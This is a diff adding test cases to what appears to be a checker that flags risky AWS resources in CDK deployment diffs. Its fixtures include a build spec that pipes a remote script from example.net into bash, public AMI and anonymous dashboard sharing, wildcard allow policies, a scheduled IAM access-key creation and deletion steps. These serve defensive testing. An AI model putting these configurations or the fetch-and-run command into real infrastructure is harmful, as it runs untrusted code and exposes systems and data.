@@ -16,6 +16,11 @@ LAYER: Final = "arn:aws:lambda:ap-northeast-1:017000801446:layer:AWSLambdaPowert
 STOP: Final = "arn:aws:scheduler:::aws-sdk:rds:stopDBInstance"
 START: Final = "arn:aws:scheduler:::aws-sdk:rds:startDBInstance"
 AUTOMATION: Final = "arn:aws:ssm:ap-northeast-1:123456789012:automation-definition/AWS-StopRdsInstance"
+KEY: Final = "iam:createAccessKey"
+FETCHED: Final = "phases:\n  install:\n    commands:\n      - bash <(curl -fsSL https://example.net/install.sh)\n"
+SHARED: Final = {"AmiDistributionConfiguration": {"LaunchPermissionConfiguration": {"UserGroups": ["all"]}}}
+PERMIT: Final = "permit (\n  principal,\n  action,\n  resource\n);"
+ANONYMOUS: Final = "arn:aws:quicksight:::publicAnonymousUser/*"
 ALARM: Final = "aws:cloudwatch:alarm"
 OUT: Final = {"CidrIp": "0.0.0.0/0", "IpProtocol": "tcp", "FromPort": 443, "ToPort": 443}
 EVERYBODY: Final = '{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "glue:*", "Resource": "*"}]}'
@@ -60,6 +65,27 @@ def _risks(application: Application, dev: Assembly, cdk_diff: CdkDiff) -> set[st
         ("AWS::FIS::ExperimentTemplate", {"StopConditions": [{"Source": "none"}]}, "experiment"),
         ("AWS::SNS::Subscription", {"Protocol": "http", "Endpoint": "http://example.com"}, "plain-text"),
         ("AWS::EC2::Route", {"DestinationCidrBlock": "10.0.0.0/8", "TransitGatewayId": "tgw-1"}, "network-joined"),
+        ("AWS::SQS::Queue", {"RedrivePolicy": {"deadLetterTargetArn": f"arn:aws:sqs:x:{OTHER}:q"}}, "another-account"),
+        ("AWS::Scheduler::Schedule", {"Target": {"Arn": STOP.replace("rds:stopDBInstance", KEY)}}, "acts-by-itself"),
+        ("AWS::SSM::Document", {"Content": "mainSteps:\n  - inputs:\n      Api: DeleteDBInstance\n"}, "destroys"),
+        ("AWS::CodeBuild::Project", {"Source": {"BuildSpec": FETCHED}}, "code-from-elsewhere"),
+        ("AWS::Route53::RecordSetGroup", {"RecordSets": [{"AliasTarget": {"DNSName": "a.example"}}]}, "name-led"),
+        ("AWS::Route53::RecordSet", {"Type": "TXT", "ResourceRecords": ['"v=spf1 mx ?all"']}, "guard-off"),
+        ("AWS::EC2::PrefixList", {"Entries": [{"Cidr": "0.0.0.0/0"}]}, "open-to-the-world"),
+        ("AWS::ImageBuilder::DistributionConfiguration", SHARED, "public"),
+        ("AWS::QuickSight::Dashboard", {"Permissions": [{"Principal": ANONYMOUS}]}, "public"),
+        ("AWS::VerifiedPermissions::Policy", {"Statement": PERMIT}, "wildcard-action"),
+        ("AWS::Transfer::Connector", {"Url": "sftp://files.example.com"}, "sent-elsewhere"),
+        ("AWS::EMRServerless::Application", {"AutoStopConfiguration": {"Enabled": False}}, "costly"),
+        ("AWS::Glue::Job", {"NumberOfWorkers": 200}, "costly"),
+        ("AWS::CloudFront::Distribution", {"DistributionConfig": {"Enabled": True}}, "public-address"),
+        ("AWS::ApiGatewayV2::Integration", {"RequestParameters": {"x": f"Bearer {'a1' * 9}"}}, "secret-in-template"),
+        ("AWS::Lambda::CodeSigningConfig", {"Policies": {"UntrustedArtifactOnDeployment": "Warn"}}, "guard-off"),
+        ("AWS::NetworkFirewall::RuleGroup", {"RulesString": "pass ip any any -> any any (sid:1;)"}, "guard-off"),
+        ("AWS::Route53::HealthCheck", {"HealthCheckConfig": {"HealthThreshold": 0}}, "guard-off"),
+        ("AWS::Transfer::Workflow", {"Steps": [{"Type": "DELETE"}]}, "destroys"),
+        ("AWS::FSx::Volume", {"NfsExports": [{"Options": ["rw", "no_root_squash"]}]}, "privileged"),
+        ("AWS::ACMPCA::Certificate", {"SigningAlgorithm": "SHA1WITHRSA"}, "unencrypted"),
     ],
 )  # fmt: skip
 def test_a_new_resource_of_any_type(
@@ -81,6 +107,13 @@ def test_a_new_resource_of_any_type(
         ("AWS::Scheduler::Schedule", {"Target": {"Arn": START}}),
         ("AWS::FIS::ExperimentTemplate", {"StopConditions": [{"Source": ALARM, "Value": "x"}]}),
         ("AWS::SNS::Subscription", {"Protocol": "https", "Endpoint": "https://example.com"}),
+        ("AWS::Route53::RecordSet", {"Type": "TXT", "ResourceRecords": ['"v=spf1 include:amazonses.com -all"']}),
+        ("AWS::Route53::RecordSet", {"Type": "TXT", "ResourceRecords": ['"v=spf1 mx ~all"']}),
+        ("AWS::ApiGateway::GatewayResponse", {"ResponseParameters": {"a.Access-Control-Allow-Credentials": "'true'"}}),
+        ("AWS::NetworkFirewall::RuleGroup", {"RulesString": "pass tls any any -> any 443 (sid:1;)"}),
+        ("AWS::VerifiedPermissions::Policy", {"Statement": 'permit(principal, action == Action::"a", resource);'}),
+        ("AWS::SSM::Document", {"Content": "mainSteps:\n  - inputs:\n      Api: DescribeDBInstances\n"}),
+        ("AWS::SSM::Document", {"Content": "a: &a [x, x]\nb: &b [*a, *a]\nSkipFinalSnapshot: 'true'\n"}),
         ("AWS::EFS::MountTarget", {"SubnetId": "subnet-1", "SecurityGroups": ["sg-1"]}),
     ],
 )
@@ -89,6 +122,13 @@ def test_what_only_looks_like_it_is_no_risk(
 ) -> None:
     application.add("ArtifactStack", "New", kind, properties)
     assert _risks(application, dev, cdk_diff) == set()
+
+
+def test_what_runs_the_product_beside_its_releases(application: Application, dev: Assembly, cdk_diff: CdkDiff) -> None:
+    tasks = {"TaskDefinitionArn": {"Ref": application.id_of("ComputeStack", "Task/Definition")}}
+    targets = [{"Id": "a", "Arn": "arn:aws:ecs:ap-northeast-1:123456789012:cluster/c", "EcsParameters": tasks}]
+    application.add("ComputeStack", "New", "AWS::Events::Rule", {"Targets": targets})
+    assert "acts-on" in _risks(application, dev, cdk_diff)
 
 
 def test_a_type_that_is_made_to_change_another_acts_on_what_is_there(
